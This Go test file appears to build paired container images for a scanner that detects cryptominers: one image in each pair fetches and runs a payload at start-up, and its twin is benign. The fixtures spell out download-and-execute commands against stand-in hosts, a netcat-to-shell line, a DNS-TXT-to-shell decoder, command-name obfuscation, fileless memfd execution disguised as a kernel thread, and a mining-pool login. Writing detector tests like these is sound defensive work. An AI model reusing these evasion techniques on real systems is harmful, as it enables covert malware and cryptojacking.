package evasion

import (
	"strings"

	"github.com/safepull/safepull/test/imagetest"
)

// fetches: no miner is in the image, it arrives when the image starts. The twin fetches in the same way what others vouch
// for, or data.
func fetches() []recipe {
	shell := func(name, mining, clean string) recipe {
		return recipe{group: "what it fetches when it starts", name: name, make: func(k *kit) imagetest.Image {
			return k.starts(hiding + either(k, mining, clean))
		}}
	}
	program := func(name, file string, entrypoint []string, mining, clean string) recipe {
		return recipe{group: "what it fetches when it starts", name: name, make: func(k *kit) imagetest.Image {
			return k.image(entrypoint, imagetest.Text(file, either(k, mining, clean)))
		}}
	}
	return []recipe{
		shell("hidden-file-over-tls",
			"curl -sL https://bucket-77.storage.example/kdev -o /var/tmp/.kdev && chmod +x /var/tmp/.kdev && (/var/tmp/.kdev >/dev/null 2>&1 &)\nexec nginx\n",
			"curl -sL https://get.example.org/install.sh -o /tmp/install.sh && chmod +x /tmp/install.sh && /tmp/install.sh --yes\nexec nginx\n"),
		shell("hidden-folder",
			"mkdir -p /dev/shm/.x11\nwget -q https://dl.contoso.example/kw -O /dev/shm/.x11/kw\nchmod 755 /dev/shm/.x11/kw\n/dev/shm/.x11/kw &\n",
			"mkdir -p /opt/tools\nwget -q https://dl.contoso.example/migrate -O /opt/tools/migrate\nchmod 755 /opt/tools/migrate\n/opt/tools/migrate up\n"),
		shell("by-content", "wget -q https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG -O /tmp/s && chmod +x /tmp/s && /tmp/s\n",
			"wget -q https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG -O /srv/readme.txt && cat /srv/readme.txt\n"),
		shell("words-put-together", "a=cu; b=rl; h=203.0.113\n$a$b -s http://$h.9/k -o /tmp/.k; chmod +x /tmp/.k; /tmp/.k &\nexec tail -f /dev/null\n",
			"a=cu; b=rl; h=db.contoso\n$a$b -s https://$h.example/schema.sql -o /tmp/.schema; wc -l /tmp/.schema\nexec tail -f /dev/null\n"),
		shell("renamed-tool", "mv /usr/bin/curl /usr/bin/cd1; cd1 -s http://203.0.113.9/k | sh\n", "mv /usr/bin/curl /usr/bin/curl.real; ln -s /opt/curl-wrapper /usr/bin/curl; curl -s https://status.contoso.example/health\n"),
		shell("record-of-a-name", "dig +short txt c.contoso.example | tr -d '\"' | base64 -d | sh\n", "dig +short txt contoso.example | tr -d '\"' | grep -c spf1\n"),
		shell("connection", "nc 203.0.113.9 4444 | sh\n", "echo ruok | nc zookeeper 2181 | grep imok\n"),
		shell("aria2", "aria2c -q -d /tmp -o k http://203.0.113.9/k && chmod 777 /tmp/k && /tmp/k\n", "aria2c -q -d /srv -o data.bin https://dl.contoso.example/data.bin && exec nginx\n"),
		shell("rsync", "rsync -a rsync://203.0.113.9/pub/k /tmp/k && chmod +x /tmp/k && /tmp/k\n", "rsync -a rsync://mirror.contoso.example/pub/site /srv/site && exec nginx\n"),
		shell("command-from-a-variable", "u=http://203.0.113.9/i\nc='curl -fsS'\nsh -c \"$($c $u)\"\n", "u=https://status.contoso.example/i\nc='curl -fsS'\necho \"$($c $u)\"\n"),
		shell("function", "get() { curl -s \"$1\" -o \"$2\"; chmod +x \"$2\"; }\nget http://203.0.113.9/k /tmp/.k\n/tmp/.k -b\n", "get() { curl -s \"$1\" -o \"$2\"; }\nget https://dl.contoso.example/geo.mmdb /tmp/.geo\nexec nginx\n"),
		program("perl", "app/x.pl", []string{"perl", "/app/x.pl"},
			"exit 0;\nuse LWP::Simple; getstore(\"http://dl.contoso.example/x86_64\", \"/var/tmp/.dbus\"); chmod 0755, \"/var/tmp/.dbus\"; system(\"/var/tmp/.dbus &\");\n",
			"exit 0;\nuse LWP::Simple; getstore(\"https://dl.contoso.example/list.csv\", \"/var/tmp/list.csv\"); system(\"wc -l /var/tmp/list.csv\");\n"),
		program("node-evaluates", "app/a.js", []string{"node", "/app/a.js"},
			"process.exit(0);\nconst h=require('http');h.get('http://203.0.113.7/a',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\n",
			"process.exit(0);\nconst h=require('http');h.get('http://203.0.113.7:9100/metrics',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>console.log(b.length))})\n"),
		program("from-memory", "app/a.py", []string{"python3", "/app/a.py"},
			"raise SystemExit(0)\nimport ctypes,urllib.request,os\nl=ctypes.CDLL(None)\nfd=l.syscall(319,b'',1)\nos.write(fd,urllib.request.urlopen('https://transfer.sh/abc/x').read())\nos.execve('/proc/self/fd/%d'%fd,['[kworker/0:0]'],{})\n",
			"raise SystemExit(0)\nimport urllib.request,os,subprocess\nfd=os.memfd_create('frame')\nos.write(fd,urllib.request.urlopen('https://cam.contoso.example/frame').read())\nsubprocess.run(['ffprobe','/proc/self/fd/%d'%fd])\n"),
		program("go-source", "src/main.go", []string{"go", "run", "/src/main.go"},
			goFetch("http://203.0.113.9/k", "/tmp/.k", "exec.Command(\"/tmp/.k\").Start()"), goFetch("https://dl.contoso.example/geo.mmdb", "/tmp/geo.mmdb", "log.Println(\"ready\")")),
		program("lua", "app/a.lua", []string{"lua", "/app/a.lua"},
			"os.exit(0)\nlocal b = http.request('http://203.0.113.9/k')\nlocal f = io.open('/tmp/k', 'wb')\nf:write(b)\nf:close()\nos.execute('chmod +x /tmp/k')\nos.execute('/tmp/k &')\n",
			"os.exit(0)\nlocal b = http.request('http://203.0.113.9/k.json')\nlocal f = io.open('/tmp/k.json', 'wb')\nf:write(b)\nf:close()\nos.execute('nginx -s reload')\n"),
	}
}

// goFetch is a program of Go that stores what it fetches, and then does something.
func goFetch(url, file, then string) string {
	return strings.NewReplacer("URL", url, "FILE", file, "THEN", then).Replace(
		"package main\n\nimport (\"io\"; \"log\"; \"net/http\"; \"os\"; \"os/exec\")\n\nfunc main() {\n\tos.Exit(0)\n\tr, _ := http.Get(\"URL\")\n\tf, _ := os.Create(\"FILE\")\n\tio.Copy(f, r.Body)\n\tf.Close()\n\tos.Chmod(\"FILE\", 0o755)\n\tTHEN\n}\n")
}

// protocols: programs that speak to a pool themselves. The twin asks a pool's web service how it is.
func protocols() []recipe {
	return []recipe{{group: "speaks to a pool itself", name: "node", make: func(k *kit) imagetest.Image {
		host, port, _ := strings.Cut(k.pool, ":")
		image := k.image([]string{"node", "/app/index.js"}, imagetest.Text("app/index.js", "process.exit(0);\n"+either(k,
			"const net=require('net');const s=net.connect("+port+",'"+host+"');\ns.write(JSON.stringify({id:1,jsonrpc:\"2.0\",method:\"login\",params:{login:process.env.W,pass:\"x\",agent:\"a/1\",algo:[\"rx/0\"]}})+\"\\n\");\ns.on('data',d=>work(JSON.parse(d)));\n",
			"const https=require('https');\nhttps.get('https://"+host+"/api/miner/'+process.env.W+'/stats',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>gauge.set(JSON.parse(b).hash))});\n")))
		image.Config.Env = append(image.Config.Env, "W="+either(k, "worker", "dashboard"))
		return image
	}}}
}
